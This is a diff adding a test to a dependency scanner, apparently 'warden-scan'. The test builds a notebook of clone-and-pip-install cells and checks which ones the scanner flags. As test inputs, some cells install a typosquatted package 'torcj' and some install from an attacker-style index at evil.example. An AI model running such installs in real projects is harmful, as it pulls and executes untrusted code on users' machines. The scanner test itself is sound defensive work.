@@ -227,6 +227,42 @@ describe('warden-scan: dependency manifests', () => {
     }
   });
 
+  it('leaves the files of a pip after a clone on its line to the guard pip inherits (R10-3)', () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-deps-'));
+    try {
+      const clone =
+        '!git clone https://github.com/example/proj && cd proj && pip install';
+      const cells = [
+        `${clone} -r requirements.txt`, // the file appears when the line runs
+        `${clone} -r requirements.txt torcj`, // names on the line are still decided
+        `${clone} -r requirements.txt -i https://evil.example/simple`,
+        '!pip install -r requirements.txt' // no writer: read now, and missing
+      ];
+      fs.writeFileSync(
+        path.join(dir, 'clone.ipynb'),
+        JSON.stringify({
+          nbformat: 4,
+          nbformat_minor: 5,
+          metadata: {},
+          cells: cells.map(source => ({
+            cell_type: 'code',
+            metadata: {},
+            source,
+            outputs: [],
+            execution_count: null
+          }))
+        })
+      );
+      expect(summary(findings([dir]))).toEqual([
+        'clone.ipynb[1]:1 install-imitation-name',
+        'clone.ipynb[2]:1 install-index-not-allowed',
+        'clone.ipynb[3]:1 install-unreadable'
+      ]);
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
   it('fails closed when the shipped data cannot be read', () => {
     const data = new DepsData(() => {
       throw Object.assign(new Error('gone'), { code: 'ENOENT' });
